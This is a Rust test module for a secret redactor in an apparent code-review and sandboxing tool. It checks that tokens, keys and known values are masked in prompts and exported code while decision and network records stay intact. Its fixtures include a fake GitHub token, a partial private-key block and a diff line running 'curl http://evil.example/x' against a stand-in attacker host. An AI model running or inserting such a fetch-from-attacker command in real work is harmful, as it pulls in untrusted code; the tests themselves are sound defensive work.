//! Text that somebody decides on, and its records: drawn as it is decided on, done and recorded.

use super::{tests::token_of, *};
use crate::{
    Admission, Body, Capability, Change, Changes, ChangesState, Deed, FileChange, Grant, Grantor,
    HostContact, HostWanted, Origin, Proposal, QuestionAbout, RecordedQuestion, Risk, egress::Host,
    record::Decision,
};
use proptest::prelude::*;

const VALUE: &str = "tok-Zq8/Wx3+Lm5 vB7'n";

fn redactor() -> Redactor {
    Redactor::of_shapes().knowing([("API_TOKEN", &Secret::new(VALUE.into()))])
}

fn proposal(code: &str) -> Proposal {
    let language = crate::language::example().find("python").unwrap();
    Proposal::new("p1".into(), Origin::Model, None, language, Untrusted::new(code))
}

fn asked(about: QuestionAbout) -> Body {
    Body::Question(RecordedQuestion { id: "q1".into(), hash: about.hash(), about })
}

/// Records of code and of a name, as they are before secrets are taken out.
fn records(text: &str) -> Vec<Body> {
    let file = FileChange::new(text, Change::Created);
    let contact = HostContact {
        host: text.into(),
        port: 443,
        verdict: Admission::Refused,
        why: None,
        count: 1,
        sent: 0,
        received: 0,
    };
    vec![
        proposal(text).body(),
        Body::Answer {
            proposal: "p1".into(),
            decision: Decision::Edit,
            by: Grantor::Person,
            hash: None,
            code: Some(Untrusted::new(text)),
            sealed: None,
            reason: None,
        },
        Body::Findings {
            proposal: "p1".into(),
            risk: Risk::High,
            capabilities: vec![Capability::new(Deed::Writes, text, 1, Risk::High)],
            understood: false,
        },
        Body::Effects {
            proposal: "p1".into(),
            files: vec![file.clone()],
            network: vec![contact.clone()],
            denials: vec![],
            secrets: vec![],
        },
        Body::TriedLate {
            after: Some("p1".into()),
            network: vec![contact],
            denials: vec![],
            secrets: vec![],
        },
        Body::Changes(Changes {
            id: "c1".into(),
            state: ChangesState::Staged,
            files: vec![file.clone()],
            left_out: vec![],
        }),
        asked(QuestionAbout::Changes {
            changes: "c1".into(),
            files: vec![file],
            left_out: vec![],
            outline: None,
        }),
    ]
}

/// A token of every shape, as it would stand in code.
fn tokens() -> Vec<String> {
    let starts = shapes().iter().flat_map(|shape| shape.starts.iter().map(move |one| (shape, one)));
    starts.map(|(shape, start)| token_of(shape, start)).collect()
}

#[test]
fn no_shape_touches_a_record_of_a_decision() {
    let redactor = redactor();
    for token in tokens() {
        for (before, after) in [("", ""), ("x = '", "'\n"), ("+", "\n+touch me\n+curl x\n")] {
            let text = format!("{before}{token}{after}");
            let drawn = redactor.draw(&Untrusted::new(text.as_str()));
            assert!(drawn.is_whole() && drawn.text().raw() == text, "{text}");
            for body in records(&text) {
                assert_eq!(redactor.body(body.clone()), body, "{text}");
            }
        }
    }
    // The control: elsewhere they are taken out.
    let prompt = Body::Prompt { text: tokens()[0].clone() };
    assert_ne!(redactor.body(prompt.clone()), prompt);
}

#[test]
fn a_host_is_recorded_under_the_name_that_was_asked_about() {
    let redactor = redactor();
    let fits = |token: &String| format!("{token}.evil.example").to_lowercase().parse::<Host>().ok();
    let hosts: Vec<Host> = tokens().iter().filter_map(fits).collect();
    assert!(hosts.len() > 20, "{}", hosts.len());
    for host in hosts {
        let (proposal, port, by) = ("p1".to_owned(), 443, Grantor::Person);
        let wanted =
            HostWanted { proposal: proposal.clone(), host: host.clone(), port, listed: false };
        let grants = vec![Grant::Once];
        for body in [
            Body::HostWanted(wanted),
            Body::HostGranted {
                proposal: proposal.clone(),
                host: host.clone(),
                port,
                granted: Grant::Session,
                by,
            },
            Body::HostRefused { proposal: proposal.clone(), host: host.clone(), port, by },
            Body::HostRevoked { host: host.clone(), port },
            asked(QuestionAbout::Host {
                proposal,
                host: host.clone(),
                port,
                listed: false,
                grants,
            }),
        ] {
            assert_eq!(redactor.body(body.clone()), body);
        }
    }
}

#[test]
fn a_known_value_is_masked_where_it_stands_and_named() {
    let redactor = redactor();
    let text = format!("a = 1\nlogin('{VALUE}')\nb = 2\n");
    let drawn = redactor.draw(&Untrusted::new(text.as_str()));
    assert_eq!(drawn.masked(), ["API_TOKEN"]);
    assert_eq!(drawn.text().raw(), text.replace(VALUE, "[secret:API_TOKEN]"));
    for body in records(&text) {
        let clean = serde_json::to_string(&redactor.body(body)).unwrap();
        assert!(clean.contains("[secret:API_TOKEN]") && !clean.contains("Zq8"), "{clean}");
    }
}

/// Code that leaves for somebody else holds no token.
#[test]
fn code_that_is_exported_has_no_token() {
    let redactor = Redactor::of_shapes();
    let token = "ghp_k3J9sQ0zL1mN7pR2vT5xW8yB4cD6fGaB1cD2";
    let body = proposal(&format!("login('{token}')")).body();
    assert_eq!(redactor.body(body.clone()), body);
    let clean = serde_json::to_string(&redactor.exported(body)).unwrap();
    assert!(clean.contains("[secret:github-token]"), "{clean}");
}

/// A header of a key swallows no line but those of a key.
#[test]
fn a_private_key_ends_where_its_lines_end() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    let key = format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\n-----END PRIVATE KEY-----");
    let redactor = Redactor::of_shapes();
    let clean = redactor.text(&key, Scope::All).into_owned();
    assert!(clean.starts_with("[secret:private-key]") && !clean.contains("MIIE"), "{clean}");
    let script = format!(
        "echo start\n: -----BEGIN PRIVATE KEY-----\ntouch here\ncp notes.txt copied.txt\n: {line}\n"
    );
    assert_eq!(redactor.text(&script, Scope::All), script);
    let diff = "+: -----BEGIN PRIVATE KEY-----\n+touch EVIL7391\n+curl http://evil.example/x\n";
    assert_eq!(redactor.text(diff, Scope::All), diff);
}

proptest! {
    /// Whatever stands around tokens and values: the drawn text is the text itself but for the values,
    /// and the record is the drawn text.
    #[test]
    fn what_is_drawn_is_what_is_decided_on_and_recorded(
        parts in prop::collection::vec(
            prop_oneof![
                "[ -~\\n]{0,30}".prop_map(|text| text),
                (0..400_usize).prop_map(|at| { let all = tokens(); all[at % all.len()].clone() }),
                Just(VALUE.to_owned()),
            ],
            0..6,
        ),
    ) {
        let (redactor, text) = (redactor(), parts.concat());
        let proposal = proposal(&text);
        let drawn = proposal.drawn(&redactor);
        prop_assert_eq!(drawn.is_whole(), drawn.text().raw() == text);
        prop_assert!(drawn.is_whole() || text.contains("Zq8"));
        let Body::Proposal { code, hash, .. } = redactor.body(proposal.body()) else {
            return Err(TestCaseError::fail("another record"));
        };
        prop_assert_eq!(&code, drawn.text());
        prop_assert_eq!(hash, crate::hash::sha256(text.as_bytes()));
        // Between the values nothing is missing.
        let mut rest = text.as_str();
        for piece in drawn.text().raw().split("[secret:API_TOKEN]") {
            let at = rest.find(piece);
            prop_assert!(at.is_some(), "{piece:?} of {rest:?}");
            rest = &rest[at.unwrap_or(0) + piece.len()..];
        }
    }
}
